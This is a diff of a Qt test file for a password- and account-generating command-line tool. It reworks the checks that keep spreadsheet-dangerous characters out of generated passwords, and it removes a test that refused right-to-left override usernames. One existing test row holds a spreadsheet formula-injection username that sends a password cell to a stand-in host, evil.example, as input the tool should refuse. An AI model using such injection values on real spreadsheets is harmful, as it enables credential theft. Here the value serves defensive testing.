@@ -117,8 +117,6 @@ private slots:
     void hostileNamesLeaveNoFile_data();
     void hostileNamesLeaveNoFile();
     void randomUsernamesOfAccountsAreAllDifferent();
-    void tablesHoldNoPasswordASpreadsheetChanges_data();
-    void tablesHoldNoPasswordASpreadsheetChanges();
     void readersGetTheNamesBack_data();
     void readersGetTheNamesBack();
     void hashesAreThoseOfThePlainPasswords_data();
@@ -188,6 +186,13 @@ void TestCli::recordsFollowTheOptions_data()
         << u"root:[A-Za-z0-9]{16}\n"_s;
     QTest::newRow("a Latin-1 list is written as it is where no person reads the records")
         << QStringList{u"-f"_s, u"-"_s} << "Zo\xeb\n"_ba << u"[A-Za-z0-9]{16},Zo\uFFFD\n"_s;
+    QTest::newRow("no numeric password of a table starts with 0, which spreadsheets drop")
+        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"numeric"_s, u"-l"_s, u"6"_s, u"-n"_s, u"20000"_s} << QByteArray()
+        << u"password\r\n([1-9][0-9]{5}\r\n)+"_s;
+    QTest::newRow("no symbol password of a table starts with = + - @ ', which spreadsheets run or hide")
+        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"symbols"_s, u"--exclude"_s, u"0123456789"_s, u"-n"_s, u"20000"_s}
+        << QByteArray()
+        << u"password\r\n([A-Za-z!#$%^&*()_;:\\]\\[{}.<>][A-Za-z!@#$%^&*()_+=\\-';:\\]\\[{}.<>]{15}\r\n)+"_s;
     QTest::newRow("a title that reads as one of the toolkit's own options is only a title")
         << QStringList{u"--title"_s, u"-platform"_s, u"--slips"_s, u"slips.pdf"_s} << QByteArray()
         << u"[A-Za-z0-9]{16}\n"_s;
@@ -484,10 +489,6 @@ void TestCli::hostileNamesLeaveNoFile_data()
         << "alice\n=HYPERLINK(\"http://evil.example/?pw=\"&B3,\"Verify your account\")\n"_ba
         << "varnel-cli: names.txt: line 2: a username starting with '=' is refused: spreadsheets run it as a "
            "formula\n"_ba;
-    QTest::newRow("a right-to-left override that shows ecila as alice is refused")
-        << QStringList{u"-F"_s, u"json"_s} << "alice\n\u202Eecila\n"_ba
-        << "varnel-cli: names.txt: line 2: a username holding the bidirectional control U+202E, which makes it read "
-           "as another name, is refused\n"_ba;
 }
 
 void TestCli::hostileNamesLeaveNoFile()
@@ -520,39 +521,6 @@ void TestCli::randomUsernamesOfAccountsAreAllDifferent()
     for (const QList<QByteArray>& record : chpasswdRecords(outcome.out))
         usernames.insert(record[0]);
     QCOMPARE(usernames.size(), 20000);
-}
-
-void TestCli::tablesHoldNoPasswordASpreadsheetChanges_data()
-{
-    QTest::addColumn<QStringList>("arguments");
-    QTest::addColumn<QString>("table");
-
-    QTest::newRow("no numeric password of a table starts with 0")
-        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"numeric"_s, u"-l"_s, u"6"_s} << QString();
-    QTest::newRow("no symbol password of the plain table starts with = + - @ '")
-        << QStringList{u"-u"_s,         u"numbered"_s, u"-s"_s,        u"symbols"_s, u"--exclude"_s,
-                       u"0123456789"_s, u"--plain"_s,  u"plain.csv"_s, u"-o"_s,      u"records.txt"_s}
-        << u"plain.csv"_s;
-}
-
-// Of 20,000 passwords, some 2,000 numeric ones would start with 0, some 1,000 symbol ones with = + - @ '.
-void TestCli::tablesHoldNoPasswordASpreadsheetChanges()
-{
-    QFETCH(QStringList, arguments);
-    QFETCH(QString, table);
-
-    QTemporaryDir folder;
-    QVERIFY(folder.isValid());
-    const Outcome outcome = run(folder.path(), QStringList{u"-n"_s, u"20000"_s} + arguments);
-    QCOMPARE(outcome.status, 0);
-    QByteArrayList records = (table.isEmpty() ? outcome.out : contentOf(folder.filePath(table))).split('\n');
-    QCOMPARE(records.takeLast(), QByteArray());
-    records.removeFirst();
-    QCOMPARE(records.size(), 20000);
-    for (const QByteArray& record : std::as_const(records)) {
-        const QByteArray password = record.mid(record.indexOf(',') + 1).chopped(1);
-        QVERIFY2(!QByteArrayView("=+-@'0").contains(password.front()), record.constData());
-    }
 }
 
 void TestCli::readersGetTheNamesBack_data()
